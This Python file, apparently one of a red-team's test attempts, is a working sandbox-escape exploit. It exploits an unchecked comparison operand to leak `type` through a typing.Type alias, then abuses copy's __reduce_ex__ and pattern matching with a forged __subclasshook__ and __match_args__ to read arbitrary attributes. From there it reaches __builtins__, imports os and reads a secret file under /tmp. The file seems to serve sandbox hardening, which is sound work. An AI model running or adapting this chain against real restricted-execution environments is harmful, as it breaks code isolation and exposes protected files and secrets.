# family: red team, round 9 (typing_type_operand_compare)
# typing.Type is refused as a value or chain base, but a comparison operand (tag OPERAND) is not checked:
# `Type in [spy]` hands the typing.Type alias to spy.__eq__; its attribute reads forward to `type` and the
# AttributeError names `type` in .obj.
import abc
import copy
from typing import Type


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return False

    __hash__ = None


def metaclass():
    spy = Spy()
    Type in [spy]
    alias = spy.seen[0]
    try:
        alias.nothing_here
    except AttributeError as e:
        return e.obj


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
